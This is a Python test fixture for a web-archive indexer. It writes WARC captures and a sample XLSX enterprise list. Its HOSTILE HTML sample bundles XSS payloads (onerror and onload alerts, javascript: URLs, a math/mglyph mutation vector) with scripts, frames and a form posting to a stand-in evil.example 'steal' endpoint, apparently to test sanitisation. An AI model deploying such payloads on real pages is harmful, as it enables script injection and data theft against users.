"""A real run folder with archived answers of several kinds, one gzip member a record, as the crawlers write it."""

from __future__ import annotations

import hashlib
import io
from pathlib import Path

import openpyxl
from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from indexer.register.documents import CaptureRef
from tests.webapp.samples import RUN, SOURCE

FILE = "captures-00001.warc.gz"
HOSTILE = """<!doctype html><html><head><title>公示</title><meta http-equiv="refresh" content="0;url=http://evil.example/">
<base href="http://evil.example/"><link rel="stylesheet" href="http://evil.example/a.css"><script>top.location='http://evil.example'</script>
<style>@import url(http://evil.example/b.css); body{background:url(http://evil.example/c.png)}</style></head>
<body onload="alert(1)" style="background:url(javascript:alert(2))">
<script src="http://evil.example/x.js"></script><iframe src="http://evil.example/f"></iframe>
<form action="http://evil.example/steal"><input name="q" value="查询"><button onclick="alert(3)">提交</button></form>
<img src="http://evil.example/p.gif" onerror="alert(4)" alt="厂区照片">
<svg onload="alert(5)"><script>alert(6)</script></svg>
<a href="javascript:alert(7)">详情</a><p>联系人：李四，电话 021-57936666</p>
<table><tr><th>企业名称</th><th>联系人</th><th>联系电话</th><th>化学需氧量(mg/L)</th></tr>
<tr><td onclick="alert(8)">上海金山化工有限公司</td>
<td>王小明</td><td>13800138000</td><td>&lt;35.2&gt;</td></tr></table>
<table><tr><td>法定代表人</td><td>欧阳保密</td><td>单位地址</td><td>卫一路1号</td></tr></table>
<p>王小明负责解释。邮箱 someone@example.org</p>
<math><mtext><table><mglyph><style><img src=x onerror=alert(9)></style></math></body></html>"""
JSON = (
    '{"rows":[{"stQymc":"上海金山化工有限公司","stLxr":"王小明","联系电话":"13800138000",'
    '"stProject":"化学需氧量","value":35.2}]}'
)


def workbook() -> bytes:
    """A list of two enterprises as XLSX, with a contact column and a formula-like name."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "名录"
    for row in (
        ["企业名称", "联系人", "联系电话", "区县"],
        ["上海金山化工有限公司", "王小明", "13800138000", "金山区"],
        ["+甲公司", "李四", "", "金山区"],
    ):
        sheet.append(row)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


class Archive:
    """Writes answers into the run folder below ``runs``; ``add`` gives the reference to cite."""

    def __init__(self, runs: Path) -> None:
        self.path = runs / SOURCE / RUN / FILE
        self.path.parent.mkdir(parents=True, exist_ok=True)

    def add(
        self, body: bytes, content_type: str = "text/html; charset=utf-8", url: str = "http://127.0.0.1:8800/7"
    ) -> CaptureRef:
        """Append one answer as a gzip member of its own."""
        offset = self.path.stat().st_size if self.path.exists() else 0
        with self.path.open("ab") as stream:
            writer = WARCWriter(stream, gzip=True)
            headers = StatusAndHeaders("200 OK", [("Content-Type", content_type)], protocol="HTTP/1.1")
            record = writer.create_warc_record(
                url, "response", payload=io.BytesIO(body), http_headers=headers,
                warc_headers_dict={"WARC-Date": "2021-03-01T02:00:00Z"},
            )  # fmt: skip
            writer.write_record(record)
        digest = hashlib.sha256(body).hexdigest()
        return {"run": RUN, "file": FILE, "offset": offset, "digest": f"sha256:{digest}"}

    def tamper(self, ref: CaptureRef) -> CaptureRef:
        """The reference of a capture whose bytes are not those recorded."""
        return {**ref, "digest": "sha256:" + "f" * 64}
